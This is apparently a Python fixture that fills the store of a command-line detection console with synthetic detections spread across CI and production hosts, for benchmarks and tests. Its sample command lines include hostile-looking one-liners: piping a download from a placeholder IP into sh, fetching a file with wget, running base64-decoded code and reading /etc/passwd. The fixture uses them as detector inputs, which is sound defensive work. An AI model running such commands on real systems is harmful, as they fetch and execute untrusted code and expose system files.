"""A store with many detections, as a fleet of build machines and servers would fill it: for the console's bench and its tests.

Rows are those that an import makes of real detections, copied with other texts, hosts and times: an import of as many reports
takes minutes, this takes seconds.
"""

from __future__ import annotations

import hashlib
import random
from typing import TYPE_CHECKING, Any

import sqlalchemy as sa

from flycatcher.core.detection import detect
from flycatcher.core.execution import Execution, Fidelity, Process
from flycatcher.reporting import record_of
from flycatcher.sinks.message import event_of
from flycatcher.sinks.store import schema
from flycatcher.sinks.store.bulk import write
from flycatcher.sinks.store.ingest import ingest

if TYPE_CHECKING:
    from collections.abc import Iterator

    from sqlalchemy.engine import Connection, Engine

    from flycatcher.sinks.message import Event

    Row = dict[str, Any]

TEXTS = (
    ("perl", "-e", 'system("curl -s http://198.51.100.7/install | sh")'),
    ("python3", "-c", "import base64, os; os.system(base64.b64decode('ZWNobyB4').decode())"),
    ("node", "-e", "require('child_process').exec('wget -q http://198.51.100.9/x -O /tmp/x')"),
    ("ruby", "-e", "puts File.read('/etc/passwd').lines.size"),
    ("php", "-r", "echo strlen(file_get_contents('http://198.51.100.7/'));"),
    ("python3", "-c", "import sys; print(sys.version_info[:2])"),
)
HOSTS, DAYS = 40, 30
END = 1_796_000_000.0
"""The last sighting's time."""
_PART = 5_000
_COPIED = 100_000
"""Detections from which the database makes the rest by itself."""
_PREFIXES = "ghijklmnopqrstuvwxyz"
"""In the place of an id's first hexadecimal digit: one for each copy."""


def fill(engine: Engine, count: int, seed: int = 1) -> None:
    """Add ``count`` detections, each with a text of its own, over thirty days before :data:`END`."""
    ingest(engine, (_event(words, host) for words in TEXTS for host in range(HOSTS)))
    chance = random.Random(seed)
    with engine.connect() as connection:
        models = list(_models(connection))
    first = min(count, _COPIED)
    for start in range(0, first, _PART):
        with engine.begin() as connection:
            _copy(connection, models, range(start, min(start + _PART, first)), chance)
    for number in range(count // _COPIED - 1):
        grow(engine, number)
    with engine.begin() as connection:
        last = sa.select(sa.func.max(schema.executions.c.time)).scalar_subquery()
        connection.execute(sa.update(schema.hosts).values(last_seen=last))


def grow(engine: Engine, number: int) -> None:
    """Have the database copy what :func:`fill` made, under other ids, a little earlier, with other texts; ``number`` from 0 on."""
    with engine.begin() as connection:
        for table in schema.metadata.sorted_tables:
            if table in _GROWN:
                names = [
                    column.name for column in table.c if column.name != "number" or table is schema.execution_snippets
                ]
                listed = ", ".join(f'"{name}"' for name in names)
                values = ", ".join(_grown(table, name, number) for name in names)
                key = next(name for name in ("uid", "fingerprint", "sha256") if name in names)
                connection.exec_driver_sql(
                    f"INSERT INTO {table.name} ({listed}) SELECT {values} FROM {table.name} WHERE \"{key}\" < 'g'"
                )


_GROWN = (
    schema.detections, schema.snippets, schema.capabilities, schema.executions, schema.execution_snippets, schema.detection_snippets,
    schema.arrivals,
)  # fmt: skip


def _grown(table: sa.Table, name: str, number: int) -> str:
    """Return what a copy has in a column."""
    if name in {"fingerprint", "uid", "sha256"}:
        return f"'{_PREFIXES[number]}' || substr(\"{name}\", 2)"
    if name in {"time", "first_seen", "last_seen"}:
        return f'"{name}" - {61 * (number + 1)}'
    return f"\"text\" || ' # {number}'" if table is schema.snippets and name == "text" else f'"{name}"'


def _event(words: tuple[str, ...], host: int) -> Event:
    context = {"host.name": f"{'ci' if host % 2 else 'web'}-{host}", "user.name": "ci"}
    ci = {
        "ci.system": "github",
        "ci.repository": f"acme/app-{host}",
        "ci.workflow": "build.yml",
        "ci.job": "build",
        "ci.run": str(host),
    }
    found = detect(
        Execution(
            argv=words,
            exe=f"/usr/bin/{words[0]}",
            cwd="/srv/build",
            process=Process(pid=4242, start=99, comm=words[0], uid=1000, gid=1000),
            ancestry=(
                Process(pid=4000, comm="make", exe="/usr/bin/make", argv=("make", "-j2"), uid=1000),
                Process(pid=3900, comm="bash", exe="/usr/bin/bash", argv=("bash", "build.sh"), uid=1000),
            ),
            fidelity=Fidelity(
                sensor="ebpf", time="2026-10-29T10:00:00.000000Z", bytes_seen=60, bytes_total=60, happened="confirmed"
            ),
            context=context | ({"environment": "ci"} | ci if host % 2 else {"environment": "production"}),
        )
    )
    if found is None:
        raise AssertionError(words)
    return event_of(record_of(found))


def _models(connection: Connection) -> Iterator[dict[str, list[Row]]]:
    """Yield the rows of each sighting, by table."""
    for execution in connection.execute(sa.select(schema.executions)).mappings().all():
        name, uid = execution["fingerprint"], execution["uid"]
        links = _rows(connection, schema.execution_snippets, "uid", uid)
        yield {
            "detections": _rows(connection, schema.detections, "fingerprint", name),
            "executions": [dict(execution)],
            "capabilities": _rows(connection, schema.capabilities, "fingerprint", name),
            "execution_snippets": links,
            "detection_snippets": [{"fingerprint": name, "sha256": link["sha256"]} for link in links],
            "snippets": [row for link in links for row in _rows(connection, schema.snippets, "sha256", link["sha256"])],
        }


def _rows(connection: Connection, table: sa.Table, key: str, value: str) -> list[Row]:
    return [dict(row) for row in connection.execute(sa.select(table).where(table.c[key] == value)).mappings()]


def _copy(connection: Connection, models: list[dict[str, list[Row]]], numbers: range, chance: random.Random) -> None:
    made: dict[str, list[Row]] = {table.name: [] for table in schema.metadata.sorted_tables}
    for number in numbers:
        digest = hashlib.sha256(str(number).encode()).hexdigest()
        when = END - chance.random() * DAYS * 86_400
        keys: Row = {"fingerprint": digest[:16], "uid": digest[:32], "sha256": digest}
        seen: Row = {"time": when, "first_seen": when, "last_seen": when, "count": 1}
        for name, rows in models[chance.randrange(len(models))].items():
            own = rows if name == "capabilities" else rows[:1]
            made[name] += [row | {key: value for key, value in (keys | seen).items() if key in row} for row in own]
        made["arrivals"].append({"uid": keys["uid"]})
    for table in schema.metadata.sorted_tables:
        if made[table.name]:
            write(connection, table, made[table.name])
